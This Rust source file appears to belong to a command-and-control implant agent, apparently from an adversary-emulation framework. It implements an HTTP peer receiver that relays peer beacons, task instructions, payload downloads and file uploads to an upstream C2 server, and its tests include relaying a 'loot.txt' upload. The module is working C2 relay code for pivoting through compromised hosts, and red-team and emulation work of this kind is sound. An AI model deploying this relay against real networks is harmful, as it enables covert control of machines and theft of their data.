use async_trait::async_trait;
use axum::body::Bytes;
use axum::extract::connect_info::ConnectInfo;
use axum::extract::{Multipart, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use axum::Router;
use base64::prelude::*;
use log::{info, warn};
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use tokio::sync::{mpsc, Mutex, RwLock};
use tokio_util::sync::CancellationToken;

use super::{
    PeerMessage, PeerReceiver, ACK_EXECUTION_RESULTS, GET_INSTRUCTIONS, GET_PAYLOAD_BYTES,
    RESPONSE_INSTRUCTIONS, RESPONSE_PAYLOAD_BYTES, SEND_EXECUTION_RESULTS,
};
use crate::contact::http::HTTP_CONTACT_NAME;
use crate::contact::Contact;
use crate::errors::{AgentError, Result};
use crate::instructions::ExecutionResult;

pub const DEFAULT_RECEIVER_PORT: u16 = 61889;

/// Relays peer HTTP traffic to the upstream contact. The listener mirrors
/// the C2's own HTTP surface so a peer can point its ordinary HTTP contact
/// at this receiver unchanged; every inbound request is normalized into a
/// `PeerMessage` and pushed through one forwarding path.
pub struct HttpReceiver {
    name: String,
    port: u16,
    state: Arc<ReceiverState>,
    cancel: CancellationToken,
}

struct ReceiverState {
    upstream_server: RwLock<String>,
    upstream_contact: RwLock<Option<Arc<dyn Contact>>>,
    agent_paw: RwLock<String>,
    barrier: Mutex<Option<mpsc::Sender<()>>>,
}

// Carried inside RESPONSE_PAYLOAD_BYTES: the peer needs the server-side
// filename as well as the bytes.
#[derive(Serialize, Deserialize)]
struct PayloadResponse {
    filename: String,
    #[serde(with = "super::base64_bytes")]
    bytes: Vec<u8>,
}

impl HttpReceiver {
    pub fn new() -> Self {
        Self::with_port(DEFAULT_RECEIVER_PORT)
    }

    pub fn with_port(port: u16) -> Self {
        Self {
            name: HTTP_CONTACT_NAME.to_string(),
            port,
            state: Arc::new(ReceiverState {
                upstream_server: RwLock::new(String::new()),
                upstream_contact: RwLock::new(None),
                agent_paw: RwLock::new(String::new()),
                barrier: Mutex::new(None),
            }),
            cancel: CancellationToken::new(),
        }
    }
}

impl Default for HttpReceiver {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl PeerReceiver for HttpReceiver {
    async fn initialize(
        &self,
        upstream_server: &str,
        upstream_contact: Arc<dyn Contact>,
        barrier: mpsc::Sender<()>,
    ) -> Result<()> {
        // This receiver re-emits HTTP; any other upstream wire format would
        // mangle the relayed traffic.
        if upstream_contact.get_name() != HTTP_CONTACT_NAME {
            return Err(AgentError::ReceiverIncompatibleUpstream {
                receiver: self.name.clone(),
                upstream: upstream_contact.get_name(),
            });
        }
        *self.state.upstream_server.write().await = upstream_server.to_string();
        *self.state.upstream_contact.write().await = Some(upstream_contact);
        *self.state.barrier.lock().await = Some(barrier);
        Ok(())
    }

    async fn run(&self) {
        // Held for the lifetime of the server; dropping it on exit releases
        // the agent's shutdown barrier.
        let barrier = self.state.barrier.lock().await.take();

        let app = Router::new()
            .route("/beacon", post(beacon_handler))
            .route("/file/download", post(download_handler))
            .route("/file/upload", post(upload_handler))
            .with_state(self.state.clone());

        let bind_addr = format!("0.0.0.0:{}", self.port);
        let listener = match tokio::net::TcpListener::bind(&bind_addr).await {
            Ok(l) => l,
            Err(e) => {
                warn!("HTTP receiver could not bind {}: {}", bind_addr, e);
                drop(barrier);
                return;
            }
        };
        info!("Starting HTTP peer receiver on local port {}", self.port);

        let cancel = self.cancel.clone();
        let result = axum::serve(
            listener,
            app.into_make_service_with_connect_info::<SocketAddr>(),
        )
        .with_graceful_shutdown(cancel.cancelled_owned())
        .await;
        if let Err(e) = result {
            warn!("HTTP receiver server error: {}", e);
        }
        info!("Shut down HTTP receiver server");
        drop(barrier);
    }

    async fn terminate(&self) {
        self.cancel.cancel();
    }

    async fn update_upstream_server(&self, addr: &str) {
        *self.state.upstream_server.write().await = addr.to_string();
    }

    async fn update_upstream_coms(&self, contact: Arc<dyn Contact>) {
        if contact.get_name() != HTTP_CONTACT_NAME {
            warn!("Cannot relay through non-HTTP upstream contact; keeping current");
            return;
        }
        *self.state.upstream_contact.write().await = Some(contact);
    }

    async fn update_agent_paw(&self, paw: &str) {
        *self.state.agent_paw.write().await = paw.to_string();
    }

    fn get_receiver_addresses(&self) -> Vec<String> {
        let mut addresses = Vec::new();
        match local_ip_address::list_afinet_netifas() {
            Ok(interfaces) => {
                for (_, ip) in interfaces {
                    if let IpAddr::V4(v4) = ip {
                        if !v4.is_loopback() && !v4.is_unspecified() {
                            addresses.push(format!("http://{}:{}", v4, self.port));
                        }
                    }
                }
            }
            Err(e) => warn!("Could not enumerate local interfaces: {}", e),
        }
        addresses
    }

    fn get_name(&self) -> String {
        self.name.clone()
    }
}

/// Single forwarding path for all peer actions: takes one request message,
/// performs the matching upstream call, and wraps the reply.
async fn forward_message(state: &ReceiverState, message: PeerMessage) -> Option<PeerMessage> {
    let contact = state.upstream_contact.read().await.clone()?;
    match message.message_type {
        GET_INSTRUCTIONS => {
            let profile: Value = serde_json::from_slice(&message.payload).ok()?;
            let response = contact.get_beacon_bytes(&profile).await?;
            Some(PeerMessage::new(
                &message.source_paw,
                &message.source_address,
                RESPONSE_INSTRUCTIONS,
                response,
            ))
        }
        GET_PAYLOAD_BYTES => {
            let request: Value = serde_json::from_slice(&message.payload).ok()?;
            let file = request.get("file")?.as_str()?.to_string();
            let profile = json!({
                "server": state.upstream_server.read().await.clone(),
                "platform": request.get("platform").and_then(Value::as_str).unwrap_or_default(),
                "paw": message.source_paw,
            });
            let (bytes, filename) = contact.get_payload_bytes(&profile, &file).await;
            if bytes.is_empty() || filename.is_empty() {
                return None;
            }
            let payload = serde_json::to_vec(&PayloadResponse { filename, bytes }).ok()?;
            Some(PeerMessage::new(
                &message.source_paw,
                &message.source_address,
                RESPONSE_PAYLOAD_BYTES,
                payload,
            ))
        }
        SEND_EXECUTION_RESULTS => {
            let mut body: Value = serde_json::from_slice(&message.payload).ok()?;
            let results = body.as_object_mut()?.remove("results")?;
            for encoded in results.as_array().cloned().unwrap_or_default() {
                match serde_json::from_value::<ExecutionResult>(encoded) {
                    Ok(result) => contact.send_execution_results(&body, &result).await,
                    Err(e) => warn!("Dropping unparseable relayed result: {}", e),
                }
            }
            Some(PeerMessage::new(
                &message.source_paw,
                &message.source_address,
                ACK_EXECUTION_RESULTS,
                Vec::new(),
            ))
        }
        other => {
            warn!("Refusing to forward peer message type {}", other);
            None
        }
    }
}

// The C2 multiplexes beacons and result submissions on one endpoint; the
// `results` key inside the decoded body tells them apart.
async fn beacon_handler(
    State(state): State<Arc<ReceiverState>>,
    ConnectInfo(peer_addr): ConnectInfo<SocketAddr>,
    body: String,
) -> Response {
    let Ok(decoded) = BASE64_STANDARD.decode(body.trim()) else {
        return StatusCode::BAD_REQUEST.into_response();
    };
    let Ok(profile) = serde_json::from_slice::<Value>(&decoded) else {
        return StatusCode::BAD_REQUEST.into_response();
    };
    let source_paw = profile
        .get("paw")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_string();
    let message_type = if profile.get("results").is_some() {
        SEND_EXECUTION_RESULTS
    } else {
        GET_INSTRUCTIONS
    };
    let message = PeerMessage::new(&source_paw, &peer_addr.to_string(), message_type, decoded);

    match forward_message(&state, message).await {
        Some(reply) if reply.message_type == RESPONSE_INSTRUCTIONS => {
            BASE64_STANDARD.encode(reply.payload).into_response()
        }
        Some(reply) if reply.message_type == ACK_EXECUTION_RESULTS => {
            BASE64_STANDARD.encode(reply.payload).into_response()
        }
        _ => StatusCode::BAD_GATEWAY.into_response(),
    }
}

async fn download_handler(
    State(state): State<Arc<ReceiverState>>,
    ConnectInfo(peer_addr): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
) -> Response {
    let file = headers
        .get("file")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    if file.is_empty() {
        return StatusCode::BAD_REQUEST.into_response();
    }
    let platform = headers
        .get("platform")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    let paw = state.agent_paw.read().await.clone();
    let request = json!({"file": file, "platform": platform});
    let message = PeerMessage::new(
        &paw,
        &peer_addr.to_string(),
        GET_PAYLOAD_BYTES,
        request.to_string().into_bytes(),
    );

    match forward_message(&state, message).await {
        Some(reply) if reply.message_type == RESPONSE_PAYLOAD_BYTES => {
            let Ok(payload) = serde_json::from_slice::<PayloadResponse>(&reply.payload) else {
                return StatusCode::BAD_GATEWAY.into_response();
            };
            ([("filename", payload.filename)], Bytes::from(payload.bytes)).into_response()
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

async fn upload_handler(
    State(state): State<Arc<ReceiverState>>,
    headers: HeaderMap,
    mut multipart: Multipart,
) -> Response {
    let Some(contact) = state.upstream_contact.read().await.clone() else {
        return StatusCode::BAD_GATEWAY.into_response();
    };
    let paw = headers
        .get("X-Paw")
        .and_then(|v| v.to_str().ok())
        .map(str::to_string)
        .unwrap_or_else(String::new);
    let host = headers
        .get("X-Host")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    let profile = json!({"paw": paw, "host": host});

    while let Ok(Some(field)) = multipart.next_field().await {
        let upload_name = field
            .file_name()
            .map(str::to_string)
            .unwrap_or_else(|| "upload".to_string());
        let Ok(data) = field.bytes().await else {
            return StatusCode::BAD_REQUEST.into_response();
        };
        if let Err(e) = contact.upload_file_bytes(&profile, &upload_name, &data).await {
            warn!("Relayed upload failed: {}", e);
            return StatusCode::BAD_GATEWAY.into_response();
        }
    }
    StatusCode::OK.into_response()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::contact::http::HttpContact;
    use crate::testutil::MockContact;
    use serde_json::json;
    use std::time::Duration;

    async fn start_receiver(port: u16, upstream: Arc<dyn Contact>) -> (Arc<HttpReceiver>, mpsc::Receiver<()>) {
        let receiver = Arc::new(HttpReceiver::with_port(port));
        let (tx, rx) = mpsc::channel(1);
        receiver
            .initialize("http://upstream:8888", upstream, tx)
            .await
            .unwrap();
        let task = receiver.clone();
        tokio::spawn(async move { task.run().await });
        tokio::time::sleep(Duration::from_millis(200)).await;
        (receiver, rx)
    }

    #[tokio::test]
    async fn rejects_incompatible_upstream() {
        let receiver = HttpReceiver::with_port(62001);
        let (tx, _rx) = mpsc::channel(1);
        let upstream: Arc<dyn Contact> = Arc::new(MockContact::new("TCP"));
        let result = receiver.initialize("tcp://upstream", upstream, tx).await;
        assert!(matches!(
            result,
            Err(AgentError::ReceiverIncompatibleUpstream { .. })
        ));
    }

    #[tokio::test]
    async fn relays_beacons_for_a_peer_http_contact() {
        let mock = Arc::new(MockContact::new("HTTP"));
        mock.push_beacon(Some(
            json!({"paw": "peer-1", "sleep": 1, "watchdog": 0, "instructions": "[]"})
                .to_string()
                .into_bytes(),
        ));
        let (receiver, _rx) = start_receiver(62002, mock.clone() as Arc<dyn Contact>).await;

        let peer_contact = HttpContact::new("");
        peer_contact.set_upstream_dest_addr("http://127.0.0.1:62002");
        let response = peer_contact
            .get_beacon_bytes(&json!({"paw": "peer-1", "server": "http://upstream:8888"}))
            .await
            .expect("relay should succeed");
        let beacon: Value = serde_json::from_slice(&response).unwrap();
        assert_eq!(beacon["paw"], "peer-1");

        // The upstream saw the peer's own profile.
        let seen = mock.beacon_profiles();
        assert_eq!(seen.len(), 1);
        assert_eq!(seen[0]["paw"], "peer-1");

        receiver.terminate().await;
    }

    #[tokio::test]
    async fn relays_execution_results_and_acks() {
        let mock = Arc::new(MockContact::new("HTTP"));
        let (receiver, _rx) = start_receiver(62003, mock.clone() as Arc<dyn Contact>).await;

        let peer_contact = HttpContact::new("");
        peer_contact.set_upstream_dest_addr("http://127.0.0.1:62003");
        let result = ExecutionResult {
            id: json!("link-4"),
            output: b"done".to_vec(),
            status: "0".to_string(),
            pid: "77".to_string(),
        };
        peer_contact
            .send_execution_results(&json!({"paw": "peer-2", "platform": "linux"}), &result)
            .await;

        let relayed = mock.sent_results();
        assert_eq!(relayed.len(), 1);
        assert_eq!(relayed[0].1, result);
        assert_eq!(relayed[0].0["paw"], "peer-2");

        receiver.terminate().await;
    }

    #[tokio::test]
    async fn relays_payload_fetches_with_filename() {
        let mock = Arc::new(MockContact::new("HTTP"));
        mock.add_payload("tool.sh", b"#!/bin/sh\nexit 0\n".to_vec());
        let (receiver, _rx) = start_receiver(62004, mock.clone() as Arc<dyn Contact>).await;

        let peer_contact = HttpContact::new("");
        peer_contact.set_upstream_dest_addr("http://127.0.0.1:62004");
        let (bytes, filename) = peer_contact
            .get_payload_bytes(&json!({"platform": "linux"}), "tool.sh")
            .await;
        assert_eq!(filename, "tool.sh");
        assert_eq!(bytes, b"#!/bin/sh\nexit 0\n".to_vec());

        receiver.terminate().await;
    }

    #[tokio::test]
    async fn relays_file_uploads() {
        let mock = Arc::new(MockContact::new("HTTP"));
        let (receiver, _rx) = start_receiver(62006, mock.clone() as Arc<dyn Contact>).await;

        let peer_contact = HttpContact::new("");
        peer_contact.set_upstream_dest_addr("http://127.0.0.1:62006");
        peer_contact
            .upload_file_bytes(
                &json!({"paw": "peer-3", "host": "workstation"}),
                "loot.txt",
                b"collected",
            )
            .await
            .unwrap();

        let uploads = mock.uploads();
        assert_eq!(uploads.len(), 1);
        assert_eq!(uploads[0].0, "loot.txt");
        assert_eq!(uploads[0].1, b"collected".to_vec());

        receiver.terminate().await;
    }

    #[tokio::test]
    async fn terminate_releases_the_barrier() {
        let mock = Arc::new(MockContact::new("HTTP"));
        let (receiver, mut rx) = start_receiver(62005, mock as Arc<dyn Contact>).await;

        receiver.terminate().await;
        let joined = tokio::time::timeout(Duration::from_secs(5), rx.recv()).await;
        // Channel closes when the run task drops its barrier sender.
        assert!(matches!(joined, Ok(None)));
    }
}
